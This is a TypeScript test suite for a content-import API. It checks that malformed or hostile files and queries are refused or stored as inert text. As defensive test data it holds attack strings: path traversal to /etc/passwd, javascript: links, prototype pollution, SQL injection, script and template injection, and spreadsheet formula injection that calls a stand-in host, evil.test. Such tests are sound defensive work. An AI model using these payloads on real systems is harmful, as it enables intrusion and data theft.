/**
 * Broken and hostile files: a report with line and column, none of it imported, and nothing in it
 * executed.
 */

import { Readable } from 'node:stream'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { ImportReport, ImportState } from '#engine/contract/importcontract.ts'
import type { CatalogueList } from '#engine/contract/contract.ts'
import type { ContentType } from '#engine/documents/kinds.ts'
import { sqlBuilder } from '#server/database/database.ts'
import { buildServer, signUp, type Client, type TestServer } from '#tests/support/server.ts'

const SCHOOLS = {
  kind: 'content-type',
  id: 'schools',
  v: 1,
  title: 'Schools',
  source: 'test',
  label: 'content.resources.many',
  one: 'content.resources.one',
  licence: 'test',
  record: { title: 'name' },
  fields: [
    { id: 'name', type: 'text', required: true, search: 3 },
    { id: 'about', type: 'longtext' },
    { id: 'website', type: 'link' },
    { id: 'closes', type: 'date' },
    { id: 'learners', type: 'number' },
    { id: 'levels', type: 'scores' },
    { id: 'region', type: 'choice', list: 'provinces', filter: 'select' },
  ],
  sorts: [{ id: 'name', by: ['name'] }],
  expires: 'closes',
} as unknown as ContentType
const MEGABYTE = 2 ** 20

let server: TestServer
let editor: Client
beforeAll(async () => {
  server = await buildServer({ documents: [SCHOOLS] })
  editor = (await signUp(server, { workerType: [1, 2, 4, 5, 3, 2] })).client
  const { body } = await editor.get('auth/get-user')
  await run(`UPDATE users SET role = 'editor' WHERE id = '${body['_id'] as string}'`)
  expect((await upload('id,name\na,Alpha\nb,Beta\n')).status).toBe(200)
})
afterAll(() => server.close())

const run = <Row>(text: string) =>
  server.context.database.tenant(server.tenant.id, (tx) =>
    tx.all<Row>({ compile: () => sql.raw<Row>(text).compile(sqlBuilder) }),
  )
const upload = (
  file: string | Buffer | Readable,
  query = '',
  headers: Record<string, string> = {},
) =>
  editor.send('POST', `admin/content/schools/import?${query}`, file, {
    'content-type': 'application/octet-stream',
    ...headers,
  })
/** A busy machine takes longer than a response waits; the job is then followed to its end. */
async function reportOf(file: string): Promise<ImportReport> {
  const { status, body } = await upload(file)
  if (status !== 202) return body as unknown as ImportReport
  const state = async () =>
    (await editor.get('admin/content/schools/import')).body as unknown as ImportState
  await expect
    .poll(async () => (await state()).phase, { timeout: 45_000 })
    .toMatch(/^(done|refused)$/)
  const { report } = await state()
  if (report === null) throw new Error('an import that ended has no report')
  return report
}
/** Everything that an import could have changed. */
async function everything() {
  const [sets] = await run('SELECT current, previous, changes, writing, imported FROM content_sets')
  const rows = await run(
    `SELECT id, title, data, state, version FROM content WHERE type = 'schools' ORDER BY version, id`,
  )
  const list = (await editor.get('catalogue/schools')).body as unknown as CatalogueList
  return { sets, rows, titles: list.items.map(({ title }) => title) }
}
const utf16 = (text: string) =>
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])

type Place = readonly [line: number, column: string, reason: string]
const BAD: readonly (readonly [what: string, file: string | Buffer, places: readonly Place[]])[] = [
  ['an empty file', '', [[0, '', 'empty']]],
  ['a head and no rows', 'id,name\n', [[0, '', 'empty']]],
  ['a row with too many columns', 'id,name\nx,Xi\ny,Yot,more\n', [[3, '', 'columns']]],
  ['a row that is too short for what is required', 'id,name\nx\n', [[2, 'name', 'missing']]],
  ['a quote that is never closed', 'id,name\nx,Xi\ny,"Yot\nz,Zet\n', [[3, '', 'quotes']]],
  [
    'an id twice, three lines apart',
    'id,name\nx,Xi\ny,Yot\nz,Zet\nx,Again\n',
    [[5, 'id', 'duplicate']],
  ],
  ['an id that is a path', 'id,name\n../../etc/passwd,Xi\n', [[2, 'id', 'id']]],
  [
    'a column of ours under another name',
    'id,Name,Web site\nx,Xi,nowhere\n',
    [[2, 'Web site', 'link']],
  ],
  [
    'a field that the type has not got',
    '{"id":"x","name":"Xi","role":"owner"}\n',
    [[1, 'role', 'unknown-field']],
  ],
  ['a value that is not in the list', 'id,name,region\nx,Xi,Mars\n', [[2, 'region', 'choice']]],
  ['words for a number', 'id,name,learners\nx,Xi,many\n', [[2, 'learners', 'type']]],
  [
    'a number that is none',
    'id,name,learners\nx,Xi,NaN\ny,Yot,Infinity\nz,Zet,0x10\n',
    [
      [2, 'learners', 'type'],
      [3, 'learners', 'type'],
      [4, 'learners', 'type'],
    ],
  ],
  [
    'a day that no calendar has',
    'id,name,closes\nx,Xi,2026-02-31\ny,Yot,2026-13-01\n',
    [
      [2, 'closes', 'type'],
      [3, 'closes', 'type'],
    ],
  ],
  [
    'a script for a link',
    'id,name,website\nx,Xi,javascript:alert(1)\ny,Yot,"data:text/html,<script>1</script>"\n',
    [
      [2, 'website', 'link'],
      [3, 'website', 'link'],
    ],
  ],
  [
    'a record from tomorrow until yesterday',
    'id,name,_from,_until\nx,Xi,2026-12-02,2026-12-01\n',
    [[2, '_until', 'period']],
  ],
  ['a text without end', `id,name\nx,${'long '.repeat(200)}\n`, [[2, 'name', 'too-long']]],
  ['a row of megabytes', `id,name\nx,"${'a'.repeat(3 * MEGABYTE)}"\n`, [[2, '', 'row-too-long']]],
  [
    'a character that no database keeps',
    '{"id":"x","name":"X\\u0000i"}\n',
    [[1, 'name', 'unkeepable']],
  ],
  ['half a character', '{"id":"x","name":"X\\ud800"}\n', [[1, 'name', 'unkeepable']]],
  ['JSON that is cut off', '[{"id":"x","name":"Xi"},\n{"id":"y","na', [[2, '', 'json']]],
  [
    'JSON that is no record',
    '[1,\n"two",\nnull]',
    [
      [1, '', 'object'],
      [2, '', 'object'],
      [3, '', 'object'],
    ],
  ],
  [
    'JSON nested 100,000 deep',
    `[{"id":"x","name":"Xi","levels":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}}]`,
    [[1, '', 'row-too-long']],
  ],
  [
    'a line of JSON Lines that is none',
    '{"id":"x","name":"Xi"}\n{"id":\n{"id":"z","name":"Zet"}\n',
    [[2, '', 'json']],
  ],
  [
    'a prototype',
    '{"id":"x","name":"Xi","__proto__":{"admin":true}}\n',
    [[1, '__proto__', 'unknown-field']],
  ],
  [
    'members that every object has',
    '{"id":"x","name":"Xi","constructor":1,"toString":2}\n',
    [
      [1, 'constructor', 'unknown-field'],
      [1, 'toString', 'unknown-field'],
    ],
  ],
  [
    'an image',
    Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
    [2, 3, 4].flatMap((line): Place[] => [
      [line, 'name', 'missing'],
      [line, 'id', 'id'],
    ]),
  ],
  ['a bad row in UTF-16', utf16('id,name\nx,\n'), [[2, 'name', 'missing']]],
  ['the same with its bytes swapped', utf16('id,name\nx,\n').swap16(), [[2, 'name', 'missing']]],
  [
    'the same without a byte order mark',
    utf16('id,name\nx,\n').subarray(2),
    [[2, 'name', 'missing']],
  ],
  [
    'a bad row in Windows-1252',
    Buffer.from('id,name,learners\nx,Môreson,één\n', 'latin1'),
    [[2, 'learners', 'type']],
  ],
  [
    'two encodings in one file',
    Buffer.concat([
      Buffer.from('id,name\nx,Môreson\ny,Élan één\n'),
      Buffer.from('z,Sêr\n', 'latin1'),
    ]),
    [[4, 'name', 'encoding']],
  ],
  ['two columns for one field', 'id,name,Name\nx,Xi,Chi\n', [[1, 'Name', 'column-twice']]],
  ['lists within lists without end', `[${'['.repeat(9000)}${']'.repeat(9000)}]`, [[1, '', 'json']]],
]

describe('a file is refused as a whole', () => {
  it.each(BAD)('for %s', async (_what, file, places) => {
    const before = await everything()
    for (const query of ['dryRun=true', '', 'keep=true']) {
      const { status, body, text } = await upload(file, query)
      expect(status, text).toBe(query === 'dryRun=true' ? 200 : 422)
      const { done, problems, problemCount } = body as unknown as ImportReport
      expect(problems.map(({ line, column, code }) => [line, column, code])).toEqual(places)
      expect([done, problemCount]).toEqual([false, places.length])
      // A readable message, as text: the console shows it as it is.
      for (const { message, value } of problems) {
        expect(message).toMatch(/^[A-Z].*\.$/)
        expect(value.length).toBeLessThanOrEqual(81)
      }
      expect(await everything()).toEqual(before)
      const state = (await editor.get('admin/content/schools/import'))
        .body as unknown as ImportState
      expect([state.phase, state.report?.problemCount]).toEqual(['refused', places.length])
    }
  })

  it('for a hundred thousand bad rows, of which it names the first thousand', async () => {
    const before = await everything()
    const file = `id,name\n${'x,\n'.repeat(100_000)}`
    const report = await reportOf(file)
    const most = server.context.database.kind === 'embedded' ? 50_000 : 500_000
    const counted = Math.min(100_000, most)
    expect(report.problems).toHaveLength(1000)
    expect(report.problemCount).toBe(counted === 100_000 ? 100_000 : counted + 1)
    expect(await everything()).toEqual(before)
  })

  it('for one byte over 50 MB, declared or not', async () => {
    const before = await everything()
    const large = Buffer.alloc(50 * MEGABYTE + 1, 'x')
    expect((await upload(large)).status).toBe(413)
    expect((await upload(Readable.from([large]))).status).toBe(413)
    expect(await everything()).toEqual(before)
  })

  it('for a row near the end of almost 50 MB, by its line', async () => {
    const before = await everything()
    const about = 'word '.repeat(1500)
    const rows = Math.floor((50 * MEGABYTE - 200) / (about.length + 20))
    const file = [
      'id,name,about',
      ...Array.from({ length: rows }, (_, n) => `r${n},Row,${about}`),
      'last,,x',
    ].join('\n')
    expect(file.length).toBeGreaterThan(49 * MEGABYTE)
    const report = await reportOf(file)
    expect(report.problems).toMatchObject([{ line: rows + 2, column: 'name', code: 'missing' }])
    expect(await everything()).toEqual(before)
  }, 60_000)
})

describe('what looks like a command', () => {
  const WORDS = [
    '=HYPERLINK("https://evil.test/?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Robert'); DROP TABLE content; --",
    '<script>alert(1)</script><img src=x onerror=alert(1)>',
    '${7*7} {{constructor.constructor("return 1")()}}',
    '$1 \\1 %s %00',
  ] as const

  it('is treated as text: stored, found, shown and exported as it was written', async () => {
    const file = WORDS.map((name, n) => JSON.stringify({ id: `w${n}`, name, about: name })).join(
      '\n',
    )
    const report = await reportOf(file)
    expect([report.done, report.problemCount]).toEqual([true, 0])
    const { items } = (await editor.get('catalogue/schools')).body as unknown as CatalogueList
    expect(items.map(({ title }) => title).toSorted()).toEqual(WORDS.toSorted())
    for (const [index, name] of WORDS.entries()) {
      const { body } = await editor.get(`catalogue/schools/w${index}`)
      expect([body['title'], body['about']]).toEqual([name, name])
    }
    const { text, headers } = await editor.get('admin/content/schools/export')
    expect(headers['content-type']).toContain('text/csv')
    for (const cell of text.split(/[,\n]/)) expect(cell).not.toMatch(/^"?[=@+]/)
    expect((await upload(text, 'dryRun=true')).body).toMatchObject({
      same: WORDS.length,
    })
    expect((await editor.post('admin/content/schools/undo')).status).toBe(204)
  })
})

describe('a request for a list', () => {
  it.each([
    ['cursor=eyJwYWdlIjoxfQ.AAAA', 400, 'catalogue/cursor', ''],
    ['cursor=..', 400, 'catalogue/cursor', ''],
    ['colour=red', 422, 'request/invalid', '/colour'],
    ["region=ZA-GP'%20OR%201=1", 422, 'request/invalid', '/region'],
    ['sort=data', 422, 'request/invalid', '/sort'],
    ['page=-1', 422, 'request/invalid', '/page'],
    ['pageSize=1e9', 422, 'request/invalid', '/pageSize'],
  ])('with %s: %i', async (query, status, code, pointer) => {
    const found = await editor.get(`catalogue/schools?${query}`)
    expect([found.status, found.body.code]).toEqual([status, code])
    const fields = found.body['fields'] as { pointer: string; message: string }[] | undefined
    expect(fields?.map((field) => field.pointer) ?? ['']).toEqual([pointer])
  })

  it.each([
    "'",
    '%',
    '_',
    '\\',
    ':*',
    '& | !',
    '<->',
    '"',
    "a' | 'b",
    '\u{1F600}',
    'x'.repeat(120),
  ])('with a search for %s', async (search) => {
    const found = await editor.get(`catalogue/schools?search=${encodeURIComponent(search)}`)
    expect([search, found.status]).toEqual([search, 200])
  })
})

describe('a long import', () => {
  it('continues after the response, reports its progress, and refuses another one at the same time', async () => {
    const rows = server.context.database.kind === 'embedded' ? 12_000 : 40_000
    const file = `id,name,about\n${Array.from({ length: rows }, (_, n) => `r${n},Row ${n},${'word '.repeat(8)}`).join('\n')}\n`
    const begun = await upload(file, 'file=long.csv', { prefer: 'respond-async' })
    expect([begun.status, begun.body['phase'], begun.body['file']]).toEqual([
      202,
      'checking',
      'long.csv',
    ])
    expect((await upload('id,name\nx,Xi\n')).body.code).toBe('content/busy')
    const seen: ImportState[] = []
    while (seen.at(-1)?.phase !== 'done') {
      const { body } = await editor.get('admin/content/schools/import')
      seen.push(body as unknown as ImportState)
      expect(['checking', 'writing', 'done']).toContain(seen.at(-1)!.phase)
      await new Promise((resolve) => setTimeout(resolve, 20))
    }
    const writing = seen.filter(({ phase }) => phase === 'writing')
    expect(writing.length).toBeGreaterThan(0)
    expect(writing.every(({ total }) => total === rows)).toBe(true)
    expect(seen.at(-1)!.report).toMatchObject({ done: true, rows })
    expect((await editor.get('catalogue/schools')).body['total']).toBe(rows)
    expect((await editor.post('admin/content/schools/undo')).status).toBe(204)
  }, 120_000)

  it('whose server was stopped says so, and the next one can begin', async () => {
    await run(
      `UPDATE content_imports SET state = state || '{"phase":"writing"}', beat_at = '${server.context.now().toISOString()}'`,
    )
    expect((await upload('id,name\na,Alpha\n', 'dryRun=true')).body.code).toBe('content/busy')
    server.wait(21)
    expect((await editor.get('admin/content/schools/import')).body['phase']).toBe('stopped')
    expect((await upload('id,name\na,Alpha\n', 'dryRun=true')).status).toBe(200)
  })
})
